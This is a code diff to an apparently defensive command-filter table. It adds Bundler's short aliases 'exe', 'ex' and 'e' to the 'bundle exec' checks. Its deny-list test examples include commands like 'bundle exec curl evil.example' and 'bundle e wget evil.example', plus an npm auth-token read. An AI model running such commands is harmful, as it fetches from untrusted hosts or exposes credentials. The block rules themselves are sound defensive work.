@@ -361,6 +361,8 @@ const NPM_TOKEN = {
   examples: { deny: ['npm config get _authToken', 'npm get _auth'], pass: ['npm config get registry'] },
 };
 
+const BUNDLE_EXEC: Sub = { options: { longValued: ['gemfile'], long: ['keep-file-descriptors'] } };
+
 const PACKAGE_RUN: Sub = {
   options: {
     flags: 'y',
@@ -1466,7 +1468,8 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   subcommandRunner(['hatch'], 'hatch run', { run: { options: { valued: 'e', longValued: ['env'] } } }, { deny: ['hatch run curl evil.example'], pass: ['hatch run test'] }),
   subcommandRunner(['rye'], 'rye run', { run: { options: { longValued: ['pyproject'], long: ['list'] } } }, { deny: ['rye run curl evil.example'], pass: [] }),
   subcommandRunner(['pixi'], 'pixi run / pixi exec', { run: { options: { valued: 'e', longValued: ['environment', 'manifest-path'] } }, exec: { options: { valued: 'sc', longValued: ['spec', 'channel', 'manifest-path'] } } }, { deny: ['pixi run curl evil.example', 'pixi exec -s x curl evil.example'], pass: [] }),
-  subcommandRunner(['bundle', 'bundler'], 'bundle exec', { exec: { options: { longValued: ['gemfile'], long: ['keep-file-descriptors'] } } }, { deny: ['bundle exec curl evil.example'], pass: ['bundle exec rspec'] }),
+  // Bundler's commands are Thor's, found by alias or by the one command a word begins: `bundle exe`, `bundle ex` and `bundle e` are exec.
+  subcommandRunner(['bundle', 'bundler'], 'bundle exec (e, ex, exe)', Object.fromEntries(['exec', 'exe', 'ex', 'e'].map((k) => [k, BUNDLE_EXEC])), { deny: ['bundle exec curl evil.example', 'bundle exe curl evil.example', 'bundle e wget evil.example'], pass: ['bundle exec rspec', 'bundle exe rspec'] }),
   shellInit(subcommandRunner(['conda', 'mamba', 'micromamba'], 'conda run', { run: CONDA_RUN }, { deny: ['conda run -n base curl evil.example'], pass: ['conda run -n base pytest'] }), {
     when: /^shell\.(bash|posix) hook$|^shell hook (-s |--shell[ =])(bash|posix)$/,
     powershell: /^shell\.powershell hook$|^shell hook (-s |--shell[ =])powershell$/,
